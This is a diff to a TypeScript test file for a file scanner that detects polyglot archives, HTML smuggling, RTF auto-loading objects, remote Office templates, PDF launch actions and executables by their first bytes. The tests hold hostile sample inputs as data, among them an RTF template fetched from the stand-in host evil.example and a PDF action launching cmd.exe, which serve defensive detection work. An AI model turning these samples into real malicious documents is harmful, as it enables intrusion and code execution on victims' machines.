@@ -173,7 +173,7 @@ test('65,000 entries: the rest is not looked at, and that is said', async () => 
     Array.from({ length: 65_000 }, (_, index) => ({ name: `${index}`, content: Buffer.alloc(0), method: 0 as const })),
   );
   const found = await inspect(many, 'a.zip', budget);
-  assert.ok(found.suspicious.includes('archive.entries'));
+  assert.deepEqual(found.suspicious, ['archive.entries']);
   assert.ok(budget.entriesUsed <= ARCHIVE_LIMITS.entries);
 });
 
@@ -309,4 +309,43 @@ test('HTML smuggling needs a payload, a decoder and a way to save', async () => 
   );
   assert.equal((await inspect(Buffer.from(`<svg onload="${decode}${save}">`), 'a.svg')).htmlSmuggling, true);
   assert.equal((await inspect(makeZip([{ name: 'a.htm', content: page(decode + save) }]))).htmlSmuggling, true);
+});
+
+test('a file that is two archives at once is opened as both', async () => {
+  const zip = makeZip([program]);
+  for (const front of [gzipSync('harmless'), makeTar([{ name: 'a.txt', content: Buffer.from('x') }])]) {
+    const found = await inspect(Buffer.concat([front, zip]), 'a.bin');
+    assert.equal(found.executable, true);
+    assert.ok(found.suspicious.some((code) => code === 'archive.prefix' || code === 'archive.disagreement'));
+  }
+  const inTar = await inspect(makeTar([{ name: 'a.zip', content: makeZip([textEntry]) }]), 'a.tar');
+  assert.deepEqual(inTar.suspicious, []);
+});
+
+test('documents that start something are named', async () => {
+  const rtf = Buffer.from('{\\rtf1 {\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}');
+  assert.deepEqual((await inspect(rtf, 'a.doc')).suspicious, ['rtf.auto_object', 'rtf.object']);
+  const template = Buffer.from('{\\rtf1 {\\*\\template http://evil.example/x.dotm}}');
+  assert.deepEqual((await inspect(template, 'a.rtf')).suspicious, ['office.remote_template']);
+  const launch = Buffer.from('%PDF-1.7\n1 0 obj <</Type/Action /S /Launch /F (cmd.exe)>> endobj');
+  assert.deepEqual((await inspect(launch, 'a.pdf')).suspicious, ['pdf.launch']);
+  assert.deepEqual((await inspect(Buffer.from('%PDF-1.7\n1 0 obj <</Type/Page>> endobj'), 'a.pdf')).suspicious, []);
+  const onenote = Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(100)]);
+  assert.equal((await inspect(onenote, 'note.bin')).executable, true);
+});
+
+test('programs of every system are known by their first bytes, and text is not taken for one', async () => {
+  const programs: [string, Buffer][] = [
+    ['ELF', Buffer.from('7f454c46020101', 'hex')],
+    ['Mach-O', Buffer.from('cffaedfe07000001', 'hex')],
+    ['Java', Buffer.from('cafebabe00000034', 'hex')],
+    ['shortcut', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
+    ['script', Buffer.from('#!/usr/bin/env python3\n')],
+    ['help file', Buffer.from('ITSF\u0003\u0000', 'latin1')],
+  ];
+  for (const [title, content] of programs) assert.equal((await inspect(content, 'a.txt')).executable, true, title);
+  for (const text of ['MZ is a name', '#!hashtag', '#! no path', 'BZhello', 'Rar! it cried']) {
+    const found = await inspect(Buffer.from(text), 'a.txt');
+    assert.deepEqual([found.executable, found.suspicious], [false, []], text);
+  }
 });
